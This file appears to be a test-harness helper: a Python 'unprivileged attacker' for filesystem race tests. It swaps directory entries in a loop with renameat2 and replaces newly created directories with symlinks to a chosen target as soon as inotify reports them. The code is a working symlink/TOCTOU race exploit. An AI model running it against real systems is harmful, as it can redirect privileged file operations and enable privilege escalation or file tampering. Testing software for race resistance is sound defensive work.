"""An unprivileged attacker for the race tests (stdlib only; copied next to the victim account's home).

race_attacker.py exchange A B SECONDS
    Swap the directory entries A and B (renameat2 RENAME_EXCHANGE) in a tight loop.
race_attacker.py inotify DIR NAME TARGET SECONDS
    Wait (inotify) for a directory DIR/NAME to be created; at once move it aside and put a symlink
    DIR/NAME -> TARGET in its place. Again and again.

Runs until SECONDS have passed or SIGTERM; prints how many swaps it made.
"""

import ctypes
import os
import select
import signal
import struct
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2
SYS_RENAMEAT2 = 316  # x86_64
IN_CREATE = 0x100
IN_ISDIR = 0x40000000
LIBC = ctypes.CDLL(None, use_errno=True)


def _stop(_signum, _frame):
    raise SystemExit(0)


def _renameat2(old, new):
    function = getattr(LIBC, "renameat2", None)
    if function is not None:
        return function(AT_FDCWD, old, AT_FDCWD, new, RENAME_EXCHANGE)
    return LIBC.syscall(SYS_RENAMEAT2, AT_FDCWD, old, AT_FDCWD, new, RENAME_EXCHANGE)


def exchange(first, second, deadline, counter):
    first, second = os.fsencode(first), os.fsencode(second)
    while time.monotonic() < deadline:
        for _swap in range(1000):
            if _renameat2(first, second) == 0:
                counter[0] += 1


def watch(directory, name, target, deadline, counter):
    descriptor = LIBC.inotify_init1(0)
    if descriptor < 0 or LIBC.inotify_add_watch(descriptor, os.fsencode(directory), IN_CREATE) < 0:
        raise OSError(ctypes.get_errno(), "inotify")
    wanted = os.fsencode(name)
    path = os.path.join(directory, name)
    while time.monotonic() < deadline:
        if not select.select([descriptor], [], [], 0.2)[0]:
            continue
        data = os.read(descriptor, 65536)
        offset = 0
        while offset < len(data):
            _wd, mask, _cookie, length = struct.unpack_from("iIII", data, offset)
            entry = data[offset + 16: offset + 16 + length].rstrip(b"\0")
            offset += 16 + length
            if entry == wanted and mask & IN_ISDIR:
                try:
                    os.rename(path, "%s.moved-%d-%d" % (path, os.getpid(), counter[0]))
                    os.symlink(target, path)
                    counter[0] += 1
                except OSError:
                    pass


def main(argv):
    signal.signal(signal.SIGTERM, _stop)
    counter = [0]
    deadline = time.monotonic() + float(argv[-1])
    try:
        if argv[1] == "exchange":
            exchange(argv[2], argv[3], deadline, counter)
        else:
            watch(argv[2], argv[3], argv[4], deadline, counter)
    finally:
        sys.stdout.write("%d\n" % counter[0])
        sys.stdout.flush()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
